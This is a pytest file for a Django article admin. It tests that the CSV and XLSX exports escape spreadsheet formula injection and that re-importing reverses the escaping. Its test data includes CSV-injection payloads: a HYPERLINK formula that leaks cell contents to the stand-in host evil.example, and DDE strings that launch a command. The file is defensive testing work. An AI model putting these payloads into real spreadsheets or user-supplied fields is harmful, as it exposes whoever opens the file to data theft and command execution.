"""An article's text never reaches a spreadsheet as a formula: the admin's CSV and XLSX exports
escape every cell a spreadsheet would evaluate, and importing the export again undoes it."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from articles.formats import FORMULA_STARTS, escape_formula, unescape_formula
from articles.models import Article
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


COLUMNS = ["title", "outlet", "byline", "url", "language", "published", "body", "content_hash"]


def _export(client, desk_admin, file_format: str) -> bytes:
    client.force_login(desk_admin)
    page = client.get(reverse("admin:articles_article_export"))
    choice = next(v for v, label in page.context["form"].fields["format"].choices if label == file_format)
    data = {"resource": "0", "format": choice, **{f"articleresource_{name}": "on" for name in COLUMNS}}
    response = client.post(reverse("admin:articles_article_export"), data)
    assert response.status_code == 200
    return response.content


@pytest.fixture
def hostile_titles():
    for n, title in enumerate(HOSTILE):
        ArticleFactory(title=title, byline=title, body=f"An ordinary body number {n}, about Behemoth.")
    return HOSTILE


def test_csv_export_escapes_every_formula(client, desk_admin, hostile_titles):
    rows = list(csv.DictReader(io.StringIO(_export(client, desk_admin, "csv").decode("utf-8-sig"))))
    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in hostile_titles)
    assert all(not row[column].startswith(FORMULA_STARTS) for row in rows for column in row)


def test_xlsx_export_holds_text_not_formulas(client, desk_admin, hostile_titles):
    book = openpyxl.load_workbook(io.BytesIO(_export(client, desk_admin, "xlsx")))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert cells
    assert all(cell.data_type != "f" for cell in cells)  # "f": openpyxl's formula cell
    titles = {cell.value for cell in cells if cell.value and str(cell.value).lstrip("'") in hostile_titles}
    assert titles == {"'" + title for title in hostile_titles}


def test_spreadsheet_formats_are_csv_json_and_xlsx_only(client, desk_admin):
    client.force_login(desk_admin)
    page = client.get(reverse("admin:articles_article_export"))
    labels = [label for _, label in page.context["form"].fields["format"].choices if label != "---"]
    assert sorted(labels) == ["csv", "json", "xlsx"]


@pytest.mark.parametrize("text", [*HOSTILE, "Plain title", "'quoted", "", "- a list item"])
def test_escaping_is_undone_by_unescaping(text):
    assert unescape_formula(escape_formula(text)) == text
    assert not str(escape_formula(text)).startswith(FORMULA_STARTS)


def test_an_escaped_export_imports_again_as_all_duplicates(client, desk_admin, hostile_titles):
    exported = _export(client, desk_admin, "csv")
    before = Article.objects.count()
    from articles.formats import SafeCSV
    from articles.resources import ArticleResource

    dataset = SafeCSV().create_dataset(exported.decode("utf-8-sig"))
    assert sorted(dataset["title"]) == sorted(hostile_titles)
    result = ArticleResource().import_data(dataset, dry_run=False)
    assert not result.has_errors()
    assert Article.objects.count() == before
